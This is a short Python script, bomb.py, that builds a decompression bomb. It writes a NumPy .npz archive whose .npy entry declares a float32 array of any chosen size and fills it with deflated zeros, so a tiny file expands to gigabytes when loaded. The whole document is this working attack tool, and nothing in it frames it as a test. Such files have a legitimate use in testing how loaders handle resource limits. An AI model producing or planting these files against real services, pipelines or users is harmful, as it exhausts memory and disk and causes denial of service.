"""bomb.py FILE.npz NAME ELEMENTS: an array of so many zeros in f32, deflated."""

import sys
import zipfile

path, name, elements = sys.argv[1], sys.argv[2], int(sys.argv[3])
text = f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({elements},), }}"
text += " " * (63 - (10 + len(text)) % 64) + "\n"
piece = bytes(1 << 24)
with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
    info = zipfile.ZipInfo(name + ".npy")
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=True) as entry:
        entry.write(b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text.encode())
        for begin in range(0, 4 * elements, len(piece)):
            entry.write(piece[:min(len(piece), 4 * elements - begin)])
